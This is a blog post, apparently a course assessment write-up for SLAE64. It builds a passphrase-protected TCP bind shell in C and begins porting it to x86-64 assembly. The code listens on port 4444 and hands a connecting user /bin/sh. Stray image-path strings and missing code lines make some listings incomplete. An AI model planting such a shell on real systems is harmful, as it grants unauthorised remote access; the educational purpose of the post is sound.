Codehead's Corner
Random ramblings on hacking, coding, fighting with infrastructure and general tech
Security Tube SLAE64 Course - Assessment 1 - TCP Bind Shell
Posted: 23 Oct 2017 at 14:26 by Codehead

After completing the video lectures of the Security Tube Linux 64 bit Assembler Expertcourse (SLAE64), a series of assessments must be completed to gain certification. The first assignment is to create a shellcode string that will start a TCP Bind Shell.

A bind shell listens on a network port and waits for an incoming connection. When a connection is received, a new socket is created, the I/O streams of the host are cloned into this new socket and a new shell instance is spawned.


This has the effect of giving the remote user an interactiveshell on the host system. Of course this is not as secure as something like an SSH connection, but is quite sufficient to let a remote user poke around the host system, issue commands and exfiltrate data.

As an extra twist, the assignment requires a little more security; a passphrase must be implemented in the bind shell code to prevent anyone who happens to stumble across the listening socket from simply dropping into the host shell.

Of course, this ‘security’ is limited and anyoneeavesdropping on the connection could sniff the passphrase with minimal effort, but it is an interesting exercise.

High Level Proof of Concept

Vivek provided a rough outline of the code in C during the course and this was taken as a base for this assignment.

The full listing of my version of the code is hosted on GitHub: Bind_Shell.c.

The basic sections of code are:

Variable Definitions and Initialisation

// Socket descriptors
int svr_sock;
int client_sock;

// Socket definitions
struct sockaddr_in server;
struct sockaddr_in client;
int sockaddr_len = sizeof(struct sockaddr_in);

// Some strings
char *arguments[] = { "/bin/sh", 0 };
char *in[] = { "xxxxxxxxxx", 0 };
bzero(&in, 10);

// Loop flag
int connected = 0;

The first two variables are descriptors which will hold the identifiers for thesockets we’ll create later.

The sockaddr_in structures are used to define the socket configurations. We’ll populate the server configuration manually in the next step, but the client structure will be generated for us when we accept an incoming connection.

Lastly, we define a couple of string buffers that we’ll need later and a flag to control the authentication loop. The buffer definitions are a bit odd, but we don’t want to worry about memory allocation here and will handle these strings differently in the assembly language anyway.

Server Socket Initialisation

The server sockaddr_in structure is configured as an IPv4 port, listening on port 4444 of all IP interfaces (

// Populate the server port information
server.sin_family = AF_INET;         // AF_INET = 2
server.sin_port = htons(4444);
server.sin_addr.s_addr = INADDR_ANY; // INADDR_ANY = 0
bzero(&server.sin_zero, 8);

Next, we create a TCP socket, bind it using the server configuration and start listening on the port.

// Create the server socket
if((svr_sock = socket(AF_INET, SOCK_STREAM,  0 )) == -1) // SOCK_STREAM = 1
    perror("Server socket: ");

// Bind the port
if((bind(svr_sock, (struct sockaddr *)&server, sockaddr_len)) == -1)
    perror("Bind: ");

// Start listening for incoming connections
if((listen(svr_sock, 2)) == -1)
    perror("Listen: ");

I have included the numeric values of the various constants as comments in the code above to make the conversion to assembler easier later. These values can either be gleaned from the source code, the documentation or dumped from Python:MBP:slae64$ python
Python 2.7.12 (default, Jun 29 2016, 14:05:02)
Type "help", "copyright", "credits" or "license" for more information.
>>> import socket
>>> print socket.AF_INET

Accept and validate incoming connections

To carry out passphrase validation, we’ll set up a loop that accepts incoming connections, prompts for input and checks any received data against the pre-set password until it receives the correct passphrase.

// Start of authentication loop
    // Accept a request and spawn a new socket for the connection
    if((client_sock = accept(svr_sock, (struct sockaddr *)&client, &sockaddr_len)) == -1)
        perror("Accept: ");

This code accepts the connection and retains the newly spawned socket that the remote user is connected to.We now send a message down the new socket to request the secret passphrase from the connecting user. Any received data is placed into the in array.

    // Request a passphrase
    send(client_sock, (char*)"Speak Friend and Enter: ", 24, 0);
    read(client_sock, &in, 10);

A bad passphrase results in the new socket being closed and the system going back to listening. Input data is limited by the length value in the read call. However, we have to zero out the input buffer after a failed attempt as there many be leftover data which could interfere with the next pass.

    // Validate the passphrase
    if(strcmp(&in, "password\n") != 0)
        // Reject bad passphrase and reset for next connection
        send(client_sock, (char*)"Goodbye\n", 8, 0);
        printf("Auth fail: %s\n", (char*)in);
        bzero(&in, 10);

If we get a good passphrase, we can break out of the authentication loop.

        // Break out of the loop when passphrase is good
        send(client_sock, (char*)"Welcome\n", 8, 0);
        connected = 1;
        printf("Auth Passed!\n");
}while(connected == 0);

Spawning the new shell

Once we have authenticated our incoming connection, we can kill off the server socket as it is no longer required. Then all that remains is to clone the I/O streams into the new socket and spawn the shell.

// Kill the server socket

// Redirect file descriptors to new socket
dup2(client_sock, 0); // STDIN
dup2(client_sock, 1); // STDOUT
dup2(client_sock, 2); // STDERR

// Start a shell
execve(arguments[0], &arguments[0], NULL);

Note that the execve function call requires a reference to the ’/bin/sh’ string and an array of parameters which contains the ’/bin/sh’ string. Keeping this structure small requires some interesting memory gymnastics which explain the odd definitions in the C code.With that, we have completed the required functionality of the bind shell in C. Now we have the fun task of converting these operations to Assembler.

Translating the code to Assembler

Establishing variable storage requirements

There are quite a few variables and structures to deal with in this code. Some values are pointers that require addressable locations and the number of basic variables that we need to persist makes juggling registers to avoid syscall clobbering a burden.

Reviewing the C code, it seems that we need to persist at least 3 integer variables (svr_sock, client_sock and sockaddr_len). We also need buffers for the sockaddr_in structures, the user input and the execve arguments.

The sockaddr_in structure is described in netinet/in.h

struct sockaddr_in {
    short            sin_family;   // 2 Bytes. e.g. AF_INET (2)
    unsigned short   sin_port;     // 2 Bytes. Network order.
    struct in_addr   sin_addr;     // see struct in_addr, below
    char             sin_zero[8];  // Zero padding. 8 bytes.

struct in_addr {
    unsigned long s_addr;  // 4 bytes.

This totals 16 bytes. However, we don’t really need two instances of this, we can re-use the same location for both sockets.

The execve call requires a ’/bin/sh’ string and an argument array containing at least two address references. As we’re using 64-bit assembly, the default size of addresses is 64 bits, or 8 bytes. So we can fit all our strings, structures and arrays nicely in two 16 byte buffers.

The stack provides a good stable solution to the storage problem. I came up with the following layout to meet the requirements of this code:


Although the stack is often said to grow ‘downwards’ in memory, it is often easier to visualise it growing upwards as it makes the layout of structures and buffers more logical and simplifies the view of offsets.

Buffer 1 will be used for the server and client structures as well as the input string from the user. The socketvariables are fixed and buffer 2 will be used for the execve parameter array.

I found that having a decent sketch of the stack layout and offsets makes writing and reading back the assembly language much easier.

Setting up

The first thing to do is set the base pointer (RBP) to the base of the stack so that the offsets in the layout sketch are correct.

Next we’ll use the Jump, Call, Pop method to establish the location of the embedded strings. Through trial and error I found that register R15 was not clobbered by any of the syscalls, so that serves as a placeholder for the string reference address.

global _start
section .text

    mov rbp, rsp        ; Get a reference to the base of the stack
    jmp short _strdata  ; Find address of string list

_getref:                ; Keep reference to strings
    pop r15
    jmp _main

    call _getref        ; call pushes RIP onto stack
    prompt: db "Speak friend and enter: "
    pass:   db "password", 0xa
    good:   db "Welcome", 0xa
    bad:    db "Wrong", 0xaUtility functions

Next in the code are a couple of utility functions. These two methods are used multiple times throughout the listingand it makes sense to break them out as callable functions rather than repeat the code multiple times. The first, _exit, restores the stack pointer and stops the code cleanly. The second, _prompt, sends strings to the remote client through their socket. I won’t go into detail, but these methods are located at the start of the listing so that subsequent call instructions will have a negative jump and no problematic zeros in the offset value.

_exit:                  ; exit nicely
    xor rax, rax
    push rax
    pop rbx
    add rax, 0x3c
    add rbx, 1
    mov rsp, rbp

_prompt:                ; send string to a socket, RSI and RDX populated before call
    mov rdi, [rbp-40]
    xor rax, rax
    mov r10, rax        ; Zero unused params
    mov r8, rax
    mov r9, raxadd rax, 44         ; sys_sendto

Creating the server socket

The first item in our variable stack is the 16 byte buffer containing the sockaddr_in structure. We know the values from the C example and we have to build the structure bottom up and right to left as shown:


There are quite a few zeros in there. However, we can clear RAX with the XOR trick. Pushing RAX then gives us the sin_zero entry. The remaining values can be populated with add and shift operations.


; Build a server sockaddr_in struct on the stack
    xor rax, rax
    push rax
    add ax, 0x5c11
    shl rax, 16
    add ax, 2
    push rax

To create the socket, we use the socket syscall which matches the socket() function used in the C code:

ID Name Arg1 Arg2 Arg3
41 sys_socket int family int type int protocol

Having done some 32-bit assembler, I was used to calling functions with the with the arguments on the stack using the cdecl convention. However, x86 syscalls expect the parameters to be passed in registers. In AMD64, all functions have their arguments passed in registers.The order is as follows:

Argument Arg1 Arg2 Arg3 Arg4 Arg5 Arg6
Register RDI RSI RDX RCX R8 R9

Return values are still found in RAX.

As an extra twist to keep us on our toes, when performing AMD64 Syscalls, the registers are slightly different. R10 is used in place of RCX for argument 4.

Argument Arg1 Arg2 Arg3 Arg4 Arg5 Arg6
Register RDI RSI RDX R10 R8 R9

Unsurprisingly, Microsoft uses a different method. The various register schemes are listed on the x86-64 Wiki Page.

Another difference from x86 assembler is that we no longer trigger interrupt 0x80 for syscalls. The selection method remains the same, with the syscall number being placed in RAX, but there is now a dedicated syscall instruction.

So, to invoke the socket syscall (ID: 41), we place 2 in RDI, 1 in RSI, 0 in RDX, 41 in RAX and then invoke the syscall instruction.

